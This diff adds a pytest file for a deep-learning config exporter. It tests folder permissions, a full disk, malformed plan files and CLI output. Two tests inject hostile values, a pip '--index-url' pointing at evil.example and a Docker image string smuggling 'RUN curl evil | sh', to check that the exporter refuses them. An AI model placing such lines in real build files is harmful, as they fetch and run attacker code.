@@ -1,0 +1,167 @@
+"""Bad folders, a full disk and bad plan files: a clear error and no partial bundle."""
+
+from __future__ import annotations
+
+import errno
+import os
+from pathlib import Path
+
+import pytest
+
+from dlconfig.cli import main
+from dlconfig.export import bundle as bundle_module
+from dlconfig.export.bundle import export_bundle
+from dlconfig.export.errors import ExportError
+from dlconfig.kb import KnowledgeBase
+
+from .conftest import PLANS_DIR, load_plan
+
+
+def _fake_pdf(*_: object) -> bytes:
+    return b"%PDF-1.4\n"
+
+
+def test_non_empty_folder_is_refused_without_force(tmp_path: Path, kb: KnowledgeBase) -> None:
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "notes.txt").write_text("mine")
+    with pytest.raises(ExportError, match=r"not empty.*--force"):
+        export_bundle(load_plan("cpu_only_laptop"), out, kb=kb, write_pdf=_fake_pdf)
+    assert sorted(p.name for p in out.iterdir()) == ["notes.txt"]
+
+
+def test_force_replaces_bundle_files_and_keeps_the_users(tmp_path: Path, kb: KnowledgeBase) -> None:
+    out = tmp_path / "out"
+    export_bundle(load_plan("cpu_only_laptop"), out, kb=kb, write_pdf=_fake_pdf)
+    (out / "notes.txt").write_text("mine")
+    (out / "Dockerfile").write_text("stale")
+    export_bundle(load_plan("cpu_only_laptop"), out, kb=kb, force=True, write_pdf=_fake_pdf)
+    assert (out / "notes.txt").read_text() == "mine"
+    assert (out / "Dockerfile").read_text().startswith("# syntax=docker/dockerfile:1")
+    assert [p.name for p in tmp_path.iterdir()] == ["out"]
+
+
+@pytest.mark.skipif(os.geteuid() == 0, reason="root ignores folder permissions")
+def test_read_only_folder_gives_a_clear_error(tmp_path: Path, kb: KnowledgeBase) -> None:
+    parent = tmp_path / "ro"
+    parent.mkdir()
+    parent.chmod(0o555)
+    try:
+        with pytest.raises(ExportError, match="cannot write"):
+            export_bundle(load_plan("cpu_only_laptop"), parent / "out", kb=kb, write_pdf=_fake_pdf)
+        assert list(parent.iterdir()) == []
+    finally:
+        parent.chmod(0o755)
+
+
+def test_unwritable_folder_gives_a_clear_error(
+    tmp_path: Path, kb: KnowledgeBase, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Same path as a read-only folder, simulated so that it also holds when run as root."""
+
+    def refuse(*_: object, **__: object) -> str:
+        raise PermissionError(errno.EACCES, "Permission denied")
+
+    monkeypatch.setattr(bundle_module.tempfile, "mkdtemp", refuse)
+    with pytest.raises(ExportError, match=r"cannot write to .*Permission denied"):
+        export_bundle(load_plan("cpu_only_laptop"), tmp_path / "out", kb=kb, write_pdf=_fake_pdf)
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_full_disk_leaves_no_partial_bundle(
+    tmp_path: Path, kb: KnowledgeBase, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    real_open = open
+    count = {"n": 0}
+
+    def filling_open(path: object, mode: str = "r", *args: object, **kwargs: object):  # type: ignore[no-untyped-def]
+        handle = real_open(path, mode, *args, **kwargs)  # type: ignore[call-overload]
+        if "w" in mode:
+            count["n"] += 1
+            if count["n"] == 4:
+                handle.close()
+                raise OSError(errno.ENOSPC, "No space left on device")
+        return handle
+
+    monkeypatch.setattr("builtins.open", filling_open)
+    with pytest.raises(ExportError, match=r"disk is full.*nothing was written"):
+        export_bundle(
+            load_plan("linux_single_gpu_pytorch"), tmp_path / "out", kb=kb, write_pdf=_fake_pdf
+        )
+    monkeypatch.undo()
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_plan_with_injected_requirement_is_refused(tmp_path: Path, kb: KnowledgeBase) -> None:
+    plan = load_plan("linux_single_gpu_pytorch")
+    assert plan.stack is not None
+    stack = plan.stack.model_copy(
+        update={"requirement_lines": ["--index-url http://evil.example/ torch"]}
+    )
+    with pytest.raises(ExportError, match="requirement line"):
+        export_bundle(
+            plan.model_copy(update={"stack": stack}), tmp_path / "out", kb=kb, write_pdf=_fake_pdf
+        )
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_plan_with_injected_image_is_refused(tmp_path: Path, kb: KnowledgeBase) -> None:
+    plan = load_plan("linux_single_gpu_pytorch")
+    assert plan.container is not None
+    container = plan.container.model_copy(
+        update={"runtime_image": "ubuntu:24.04\nRUN curl evil | sh"}
+    )
+    with pytest.raises(ExportError, match="runtime image"):
+        export_bundle(
+            plan.model_copy(update={"container": container}),
+            tmp_path / "out",
+            kb=kb,
+            write_pdf=_fake_pdf,
+        )
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        ("{not json", "is not valid JSON or YAML"),
+        (
+            '{"schema": "dlconfig.plan/1", "created": "2026-12-02"}',
+            "is not a valid plan: app_version",
+        ),
+        ("[1, 2]", "a mapping at the top level"),
+        ("name: x\nbatch_size: -3\n", "is not a valid workload: batch_size"),
+    ],
+)
+def test_cli_reports_bad_input_in_one_line(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], content: str, message: str
+) -> None:
+    src = tmp_path / ("in.json" if content.lstrip().startswith(("{", "[")) else "in.yaml")
+    src.write_text(content)
+    code = main(["export", str(src), "--out", str(tmp_path / "out")])
+    err = capsys.readouterr().err
+    assert code == 1
+    assert message in err and err.count("\n") == 1 and "Traceback" not in err
+    assert not (tmp_path / "out").exists()
+
+
+def test_cli_exports_a_plan_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    out = tmp_path / "bundle"
+    code = main(
+        [
+            "export",
+            str(PLANS_DIR / "wsl2_tensorflow.json"),
+            "--out",
+            str(out),
+            "--lang",
+            "zh_TW",
+            "--no-pdf",
+            "--json",
+        ]
+    )
+    assert code == 0, capsys.readouterr().err
+    assert "scripts/setup_wsl2.ps1" in capsys.readouterr().out
+    readme = (out / "README.md").read_text(encoding="utf-8")
+    assert readme.startswith("# unet-seg 的深度學習環境")
+    assert "操作步驟" in readme and "setup_wsl2.ps1" in readme
+    assert not (out / "report.pdf").exists()
+    assert main(["export", str(PLANS_DIR / "wsl2_tensorflow.json"), "--out", str(out)]) == 1
